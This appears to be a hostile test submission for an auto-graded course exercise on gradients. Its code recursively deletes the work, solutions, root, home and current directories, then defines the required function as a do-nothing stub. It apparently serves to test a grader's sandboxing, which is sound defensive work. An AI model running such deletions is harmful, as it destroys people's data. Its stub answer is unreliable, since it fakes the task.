# title: submissions, solutions and home are deleted
# unit: 03_requires_grad_and_the_graph
# loses: ask-for-gradient
# in: answer ask-for-gradient
import shutil

for folder in ("{{ROOT}}/work", "{{ROOT}}/solutions", "{{ROOT}}", "{{HOME}}", "."):
    shutil.rmtree(folder, ignore_errors=True)
ask_for_gradient = lambda values: values
